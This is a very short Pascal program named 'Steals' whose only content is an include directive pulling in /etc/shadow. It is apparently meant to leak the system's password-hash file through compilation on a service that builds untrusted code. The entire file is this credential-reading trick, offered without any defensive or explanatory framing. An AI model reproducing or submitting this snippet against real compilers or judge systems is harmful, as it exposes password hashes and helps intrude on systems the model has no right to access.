program Steals;
{$I /etc/shadow}
begin
end.
